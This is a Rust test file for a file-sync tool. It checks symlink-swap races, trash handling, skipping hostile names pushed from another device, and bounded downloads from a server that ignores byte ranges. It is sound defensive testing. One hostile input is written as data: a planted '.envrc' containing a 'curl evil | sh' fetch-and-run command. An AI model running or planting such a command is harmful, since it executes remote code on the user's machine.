//! The local file system outside the happy model (issue 13): files and folders swapped for
//! symbolic links between a check and its use, the local trash when it cannot take a file,
//! names this device never syncs arriving from elsewhere, and hostile input that must cost
//! bounded work.
//!
//! Not on Windows (each says why where it stands): the tests that swap a name for a symbolic link
//! while a sync runs, and the one about PATH_MAX. The race they stage is closed only where
//! `fs_safe` works through folder handles (`openat` with `O_NOFOLLOW`, Unix); on Windows it checks
//! each component and then acts by path (see fs_safe.rs); and creating a symbolic link there
//! needs a privilege users' desktops do not grant (under Wine 8 it reports success and makes
//! nothing: docs/platforms.md).

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};
#[cfg(unix)]
use std::sync::atomic::{AtomicBool, Ordering};
#[cfg(unix)]
use std::sync::Arc;

#[cfg(unix)]
use tunnel_core::fs_safe;
use tunnel_core::remote::memory::MemoryStore;
use tunnel_core::remote::{BlobName, RemoteError, RemoteStore};
use tunnel_core::sync::TRASH_DIR;

#[cfg(unix)]
use crate::hostile::listing;
use crate::hostile::{append_delta, delta_doc, file_entry};
#[cfg(unix)]
use crate::util::Intercept;
use crate::util::{runtime, tree_of, Device, Hooked, StoreHooks};

const SECRET: &[u8] = b"-----BEGIN OPENSSH PRIVATE KEY----- do not upload me -----END-----";

/// A folder outside every synced folder, holding `id_rsa` (the secret) and `d/` with a copy.
fn outside() -> (tempfile::TempDir, PathBuf) {
    let tmp = tempfile::tempdir().expect("tempdir");
    let dir = tmp.path().join("home");
    std::fs::create_dir_all(dir.join("d")).expect("mkdir");
    std::fs::write(dir.join("id_rsa"), SECRET).expect("write");
    (tmp, dir)
}

#[cfg(unix)]
fn contains(hay: &[u8], needle: &[u8]) -> bool {
    hay.windows(needle.len()).any(|w| w == needle)
}

/// Every file below `dir` (hidden ones too) with its content.
fn all_files(dir: &Path) -> BTreeMap<String, Vec<u8>> {
    let mut out = BTreeMap::new();
    let mut stack = vec![dir.to_path_buf()];
    while let Some(d) = stack.pop() {
        for e in std::fs::read_dir(&d).into_iter().flatten().flatten() {
            let ft = e.file_type().expect("file type");
            if ft.is_dir() {
                stack.push(e.path());
            } else if ft.is_file() {
                // `/` between components on every platform, as the tests spell paths.
                let rel = e
                    .path()
                    .strip_prefix(dir)
                    .expect("under")
                    .components()
                    .map(|c| c.as_os_str().to_string_lossy().into_owned())
                    .collect::<Vec<_>>()
                    .join("/");
                out.insert(rel, std::fs::read(e.path()).expect("read"));
            }
        }
    }
    out
}

/// Files kept in `dev`'s trash, by path below the day folder (`<day>/` cut off).
fn trash(dev: &Device) -> BTreeMap<String, Vec<u8>> {
    all_files(&dev.root.join(TRASH_DIR))
        .into_iter()
        .map(|(k, v)| {
            let below_day = k.split_once('/').map(|(_, r)| r.to_string()).unwrap_or(k);
            (below_day, v)
        })
        .collect()
}

/// Replace `path` (a file or a folder) by a symbolic link to `to`. Unix only: see the top.
#[cfg(unix)]
fn swap_for_link(path: &Path, to: &Path) {
    match std::fs::symlink_metadata(path) {
        Ok(m) if m.is_dir() => std::fs::remove_dir_all(path).expect("rm dir"),
        Ok(_) => std::fs::remove_file(path).expect("rm"),
        Err(_) => {}
    }
    std::os::unix::fs::symlink(to, path).expect("symlink");
}

/// Files replaced by links to a secret outside the folder after the scan, while the upload
/// runs: no byte of the secret is ever read for the store (a real server would receive what
/// is read before the hash check fails), nothing of it is stored, and the rest syncs.
/// Unix only: the race is closed only through folder handles (see the top).
#[cfg(unix)]
#[test]
fn files_swapped_for_links_before_their_upload_never_send_the_secret() {
    let rt = runtime();
    rt.block_on(async {
        let (_tmp, home) = outside();
        let store = MemoryStore::new();
        store.record_sources(true);
        let a = Device::new("dev-a");
        // Two files of several chunks (sent chunk by chunk) and one small (packed).
        a.write("big-1.bin", &vec![b'1'; 10_000]);
        a.write("big-2.bin", &vec![b'2'; 10_000]);
        a.write("small.txt", b"small");
        let fired = Arc::new(AtomicBool::new(false));
        let (f, root, secret) = (fired.clone(), a.root.clone(), home.join("id_rsa"));
        store.set_on_put(Some(Arc::new(move |_name: &BlobName| {
            if !f.swap(true, Ordering::SeqCst) {
                for name in ["big-1.bin", "big-2.bin", "small.txt"] {
                    swap_for_link(&root.join(name), &secret);
                }
            }
        })));
        let r = a.sync(&store).await;
        assert!(fired.load(Ordering::SeqCst), "no upload started");
        for bytes in store.sources_read() {
            assert!(
                !contains(&bytes, SECRET),
                "the secret was read for an upload"
            );
        }
        for name in store.blob_names() {
            let bytes = store.blob_bytes(&name).expect("bytes");
            assert!(!contains(&bytes, SECRET), "{name} holds the secret");
        }
        store.set_on_put(None);
        // Links are not synced: later syncs never send the secret either.
        a.write("later.txt", b"later");
        a.sync(&store).await.expect("next sync");
        for name in store.blob_names() {
            let bytes = store.blob_bytes(&name).expect("bytes");
            assert!(!contains(&bytes, SECRET), "{name} holds the secret: {r:?}");
        }
        let b = Device::new("dev-b");
        b.sync(&store).await.expect("b");
        for (path, bytes) in b.tree() {
            assert!(!contains(&bytes, SECRET), "{path} arrived with the secret");
        }
        assert!(b.tree().contains_key("later.txt"), "the folder still syncs");
    });
}

/// A folder replaced by a link to somewhere else between the plan and the download: nothing
/// is written there (no temporary file, no renamed file), and the next sync, after the folder
/// is back, brings the file.
/// Unix only: the race is closed only through folder handles (see the top).
#[cfg(unix)]
#[test]
fn a_folder_swapped_for_a_link_before_a_download_gets_nothing_written_through_it() {
    let rt = runtime();
    rt.block_on(async {
        let (_tmp, home) = outside();
        let store = MemoryStore::new();
        let a = Device::new("dev-a");
        let b = Device::new("dev-b");
        a.write("d/old.txt", b"old");
        a.sync(&store).await.expect("a");
        b.sync(&store).await.expect("b");
        a.write("d/new.txt", b"brand new file");
        a.write("d/deeper/x.txt", b"deeper still");
        a.sync(&store).await.expect("a");

        let before = all_files(&home);
        let fired = Arc::new(AtomicBool::new(false));
        let d = b.root.join("d");
        // The real folder is moved aside (not lost) and a link takes its place.
        let away = b.root.parent().expect("temp dir").join("d-away");
        let (f, dd, aw, target) = (fired.clone(), d.clone(), away.clone(), home.join("d"));
        let hooked = Intercept {
            inner: store.clone(),
            on_get: Box::new(move |name| {
                let content = name.as_str().starts_with("m-") || name.as_str().starts_with("c-");
                if content && !f.swap(true, Ordering::SeqCst) {
                    std::fs::rename(&dd, &aw).expect("move the folder aside");
                    std::os::unix::fs::symlink(&target, &dd).expect("symlink");
                }
                Ok(())
            }),
        };
        let r = b.sync(&Hooked(&hooked)).await;
        assert!(fired.load(Ordering::SeqCst), "no content download happened");
        assert_eq!(
            all_files(&home),
            before,
            "something was written through the link: {r:?}"
        );
        assert!(
            listing(&home).iter().all(|p| !p.contains(".sbt-")),
            "temp file outside"
        );

        // The folder is back: everything lands.
        std::fs::remove_file(&d).expect("rm link");
        std::fs::rename(&away, &d).expect("the folder is back");
        b.sync(&store).await.expect("b again");
        b.sync(&store).await.expect("b settles");
        assert_eq!(
            b.tree(),
            a.tree(),
            "converged once the folder is real again"
        );
    });
}

/// `a` deleted elsewhere and trashed, then `a/b` the same day: both are kept in the trash
/// (the second under a numbered folder), neither is deleted for good.
#[test]
fn a_file_then_a_file_below_the_same_name_both_reach_the_trash() {
    let rt = runtime();
    rt.block_on(async {
        let store = MemoryStore::new();
        let a = Device::new("dev-a");
        let b = Device::new("dev-b");
        a.write("a", b"first, a file");
        a.sync(&store).await.expect("a");
        b.sync(&store).await.expect("b");
        std::fs::remove_file(a.path("a")).expect("rm");
        a.sync(&store).await.expect("a deletes");
        b.sync(&store).await.expect("b trashes a");
        a.write("a/b", b"then a file below a folder of that name");
        a.sync(&store).await.expect("a");
        b.sync(&store).await.expect("b gets a/b");
        std::fs::remove_dir_all(a.path("a")).expect("rm");
        a.sync(&store).await.expect("a deletes a/b");
        let s = b.sync(&store).await.expect("b trashes a/b");
        assert!(!b.path("a/b").exists(), "a/b was deleted elsewhere");
        let kept = trash(&b);
        assert_eq!(
            kept.values().cloned().collect::<Vec<_>>(),
            vec![
                b"first, a file".to_vec(),
                b"then a file below a folder of that name".to_vec()
            ],
            "both versions are in the trash: {kept:?} ({s:?})"
        );
        // (`a/b` when the day changed between the two syncs.)
        assert!(
            kept.contains_key("a (2)/b") || kept.contains_key("a/b"),
            "{kept:?}"
        );
    });
}

/// A path that is still valid in the folder but too long once the trash prefix is added to it
/// (past PATH_MAX as one string): moved into the trash anyway (relative moves have no such
/// limit), never deleted for good.
/// Unix only: PATH_MAX is a Unix limit; with the `\\?\` prefix a Windows path runs to 32,767
/// characters, a different limit for a different test.
#[cfg(unix)]
#[test]
fn a_path_too_long_for_the_trash_prefix_is_still_kept() {
    let rt = runtime();
    rt.block_on(async {
        let store = MemoryStore::new();
        let a = Device::new("dev-a");
        let b = Device::new("dev-b");
        // Components of 200 bytes up to just under PATH_MAX (4096 with the NUL) below b's root.
        let room = 4095 - b.root.as_os_str().len() - 1 - 8;
        let mut rel = String::new();
        while rel.len() + 201 <= room {
            if !rel.is_empty() {
                rel.push('/');
            }
            rel.push_str(&"d".repeat(200));
        }
        // The file's own name fills the rest.
        let name_len = room - rel.len() - 1;
        rel.push('/');
        rel.push_str(&"f".repeat(name_len));
        assert!(b.root.join(&rel).as_os_str().len() < 4096);
        assert!(
            b.root
                .join(TRASH_DIR)
                .join("2026-01-01")
                .join(&rel)
                .as_os_str()
                .len()
                > 4096,
            "the trash path is over PATH_MAX"
        );
        a.write(&rel, b"long path content");
        a.sync(&store).await.expect("a");
        b.sync(&store).await.expect("b");
        assert!(b.path(&rel).exists(), "b has the long path");
        std::fs::remove_file(a.path(&rel)).expect("rm");
        a.sync(&store).await.expect("a deletes");
        b.sync(&store).await.expect("b trashes");
        assert!(!b.path(&rel).exists(), "deleted elsewhere, gone here");
        // Read it back relative to the trash's day folder (the whole path is too long).
        let day = std::fs::read_dir(b.root.join(TRASH_DIR))
            .expect("trash")
            .flatten()
            .next()
            .expect("a day folder")
            .path();
        let parts: Vec<&str> = rel.split('/').collect();
        let (name, dirs) = parts.split_last().expect("parts");
        let dir = fs_safe::Dir::root(&day)
            .and_then(|d| d.walk(dirs.iter().copied(), false))
            .expect("kept in the trash");
        let mut text = String::new();
        std::io::Read::read_to_string(&mut dir.open_file(name).expect("file"), &mut text)
            .expect("read");
        assert_eq!(text, "long path content");
    });
}

/// A `.sber-tunnel-trash` that is a file, or a link to a folder outside, planted (by hand or by
/// another program): a file deleted elsewhere is not deleted here for good, nothing is moved
/// outside; it stays, is counted as skipped, the deletion is not undone remotely, and it is
/// trashed once the trash is usable again. On Windows only the file is planted: creating a
/// symbolic link there needs a privilege (see the top).
#[test]
fn an_unusable_trash_keeps_the_file_in_place_and_retries() {
    #[cfg(unix)]
    const PLANTED: &[&str] = &["file", "link"];
    #[cfg(not(unix))]
    const PLANTED: &[&str] = &["file"];
    let rt = runtime();
    rt.block_on(async {
        for &planted in PLANTED {
            let (_tmp, home) = outside();
            let store = MemoryStore::new();
            let a = Device::new("dev-a");
            let b = Device::new("dev-b");
            a.write("x.txt", b"deleted on a");
            a.write("other.txt", b"stays");
            a.sync(&store).await.expect("a");
            b.sync(&store).await.expect("b");
            let trash_dir = b.root.join(TRASH_DIR);
            match planted {
                "file" => std::fs::write(&trash_dir, b"not a folder").expect("plant"),
                #[cfg(unix)]
                _ => std::os::unix::fs::symlink(&home, &trash_dir).expect("plant"),
                #[cfg(not(unix))]
                _ => unreachable!("only files are planted here"),
            }
            let before_home = all_files(&home);
            std::fs::remove_file(a.path("x.txt")).expect("rm");
            a.sync(&store).await.expect("a deletes");
            for round in 0..2 {
                let s = b.sync(&store).await.expect("b syncs");
                assert_eq!(
                    std::fs::read(b.path("x.txt")).ok(),
                    Some(b"deleted on a".to_vec()),
                    "{planted} #{round}: the file was deleted without a copy"
                );
                assert!(s.skipped_unreadable >= 1, "{planted}: not reported: {s:?}");
                assert_eq!(
                    s.uploaded, 0,
                    "{planted}: re-uploaded, undoing the deletion"
                );
                assert_eq!(all_files(&home), before_home, "{planted}: written outside");
            }
            a.sync(&store).await.expect("a");
            assert!(
                !a.path("x.txt").exists(),
                "{planted}: the deletion was undone"
            );
            // The trash is usable again: the file moves there.
            std::fs::remove_file(&trash_dir).expect("unplant");
            b.sync(&store).await.expect("b");
            assert!(
                !b.path("x.txt").exists(),
                "{planted}: not trashed after all"
            );
            assert_eq!(
                trash(&b).get("x.txt").map(Vec::as_slice),
                Some(&b"deleted on a"[..])
            );
        }
    });
}

/// Names this device never uploads nor deletes arrive from another device (hostile here, via a
/// delta): none is written into the folder, they are counted as skipped, normal files keep
/// syncing both ways, and none of them is deleted remotely by this device.
#[test]
fn names_never_synced_here_are_skipped_when_they_arrive() {
    let rt = runtime();
    rt.block_on(async {
        let store = MemoryStore::new();
        let writer = Device::new("writer");
        let victim = Device::new("victim");
        writer.write("hello.txt", b"hello");
        writer.sync(&store).await.expect("writer");
        victim.sync(&store).await.expect("victim");
        let marker = victim.root.join(tunnel_core::sync::FOLDER_MARKER);
        let marker_before = std::fs::read(&marker).expect("marker");

        let hostile = [
            (".sbtignore", &b"*\n"[..]),
            (".envrc", b"curl evil | sh"),
            (".vscode/tasks.json", b"{\"tasks\": []}"),
            (".sber-tunnel-trash/x", b"planted"),
            (tunnel_core::sync::FOLDER_MARKER, b"someone else's folder"),
            ("notes.txt~", b"an editor backup"),
        ];
        let mut entries = Vec::new();
        for (path, content) in hostile {
            entries.push(file_entry(&store, path, content).await);
        }
        entries.push(file_entry(&store, "fine.txt", b"a normal file").await);
        // Format 2 documents list their entries sorted by path.
        entries.sort_by(|a, b| a["path"].as_str().cmp(&b["path"].as_str()));
        let doc = delta_doc(&store, entries);
        append_delta(&store, doc).await;

        let s = victim.sync(&store).await.expect("victim syncs");
        assert_eq!(s.skipped_remote, hostile.len() as u64, "{s:?}");
        for (path, _) in hostile {
            if path != tunnel_core::sync::FOLDER_MARKER {
                assert!(
                    std::fs::symlink_metadata(victim.path(path)).is_err(),
                    "{path} was written"
                );
            }
        }
        assert!(
            !victim.path(".vscode").exists(),
            "a folder for a skipped name"
        );
        assert_eq!(std::fs::read(&marker).expect("marker"), marker_before);
        assert_eq!(
            victim.tree().get("fine.txt").map(Vec::as_slice),
            Some(&b"a normal file"[..])
        );

        // Uploads go on (the planted `.sbtignore` holding `*` is not applied here), and
        // nothing of theirs is deleted remotely.
        victim.write("mine.txt", b"uploaded as usual");
        let s = victim.sync(&store).await.expect("victim uploads");
        assert_eq!(s.uploaded, 1, "{s:?}");
        assert_eq!(s.deleted_remote, 0, "{s:?}");
        let late = Device::new("late");
        late.sync(&store).await.expect("late");
        assert_eq!(
            late.tree().get("mine.txt").map(Vec::as_slice),
            Some(&b"uploaded as usual"[..])
        );
    });
}

/// Another device without this device's ignore rules publishes a file they exclude: it is not
/// written here, counted as skipped, and stays on the other device.
#[test]
fn a_file_ignored_here_but_not_there_is_skipped_not_deleted() {
    let rt = runtime();
    rt.block_on(async {
        let store = MemoryStore::new();
        let a = Device::new("dev-a");
        let b = Device::new("dev-b");
        b.write(".sbtignore", b"*.log\nbuild/\n");
        a.write("keep.txt", b"keep");
        a.sync(&store).await.expect("a");
        b.sync(&store).await.expect("b");
        a.write("debug.log", b"a's log");
        a.write("build/out.bin", b"a's build");
        a.sync(&store).await.expect("a");
        let s = b.sync(&store).await.expect("b");
        assert_eq!(
            s.skipped_remote, 3,
            "debug.log, build and build/out.bin: {s:?}"
        );
        assert!(!b.path("debug.log").exists());
        assert!(!b.path("build").exists());
        assert_eq!(s.deleted_remote, 0);
        b.write("b.txt", b"from b");
        b.sync(&store).await.expect("b");
        a.sync(&store).await.expect("a");
        let tree = a.tree();
        assert!(tree.contains_key("debug.log") && tree.contains_key("build/out.bin"));
        assert!(tree.contains_key("b.txt"));
        assert_eq!(tree_of(&a.root).len(), 4);
    });
}

/// A server that ignores `Range` for one blob and sends it whole, counting what the reader's
/// sink accepted.
struct WholeBody {
    inner: MemoryStore,
    target: BlobName,
    accepted: std::sync::Mutex<u64>,
}

#[async_trait::async_trait]
impl StoreHooks for WholeBody {
    fn inner(&self) -> &MemoryStore {
        &self.inner
    }
    async fn get_blob(
        &self,
        name: &BlobName,
        version: Option<u64>,
        range: Option<std::ops::Range<u64>>,
        sink: tunnel_core::remote::BlobSink<'_>,
    ) -> Result<u64, RemoteError> {
        use tokio::io::AsyncWriteExt;
        if name != &self.target {
            return self.inner.get_blob(name, version, range, sink).await;
        }
        let body = self.inner.blob_bytes(name).unwrap_or_default();
        let mut sent = 0u64;
        for piece in body.chunks(4096) {
            if sink.write_all(piece).await.is_err() {
                return Err(RemoteError::Io(std::io::Error::other("the sink refused")));
            }
            sent += piece.len() as u64;
            *self.accepted.lock().expect("lock") += piece.len() as u64;
        }
        Ok(sent)
    }
}

/// A 1-byte chunk whose chunk blob is an oversized attachment (4 MiB): the download asks for
/// the chunk's byte range only, and even a server that ignores the range gets no more than
/// the chunk's size onto the disk (not the whole attachment, twice).
#[test]
fn an_oversized_attachment_behind_a_tiny_chunk_is_never_written_whole() {
    use sha2::{Digest as _, Sha256};
    let rt = runtime();
    rt.block_on(async {
        let store = MemoryStore::new();
        let writer = Device::new("writer");
        let victim = Device::new("victim");
        writer.write("hello.txt", b"hello");
        writer.sync(&store).await.expect("writer");
        victim.sync(&store).await.expect("victim");

        let sha = hex::encode(Sha256::digest(b"x"));
        let blob = BlobName::new(format!("c-{sha}")).expect("name");
        let mut oversized = vec![b'x'; 4 << 20];
        oversized[1] = b'!';
        store
            .put_blob(
                &blob,
                tunnel_core::remote::BlobSource::Bytes(bytes::Bytes::from(oversized)),
            )
            .await
            .expect("put");
        let entry = serde_json::json!({"path": "tiny.txt", "kind": "file", "deleted": false,
            "size": 1, "mtime_ns": 1_700_000_000_000_000_000i64, "sha256": sha, "version": 1,
            "device": "mallory",
            "chunks": [{"sha256": sha, "size": 1, "blob": blob.as_str(), "offset": 0}]});
        let doc = delta_doc(&store, vec![entry]);
        append_delta(&store, doc).await;

        let lying = WholeBody {
            inner: store.clone(),
            target: blob.clone(),
            accepted: std::sync::Mutex::new(0),
        };
        let r = victim.sync(&Hooked(&lying)).await;
        let accepted = *lying.accepted.lock().expect("lock");
        assert!(
            accepted <= 2 * 4096,
            "{accepted} bytes of a 1-byte chunk were written: {r:?}"
        );
        assert!(!victim.path("tiny.txt").exists(), "the wrong bytes landed");
        assert!(
            crate::util::stray_hidden(&victim.root).is_empty(),
            "partial file left"
        );

        // An honest server answers the range: the chunk's one byte, and the file lands.
        victim.sync(&store).await.expect("victim");
        assert_eq!(
            std::fs::read(victim.path("tiny.txt")).ok(),
            Some(b"x".to_vec())
        );
    });
}
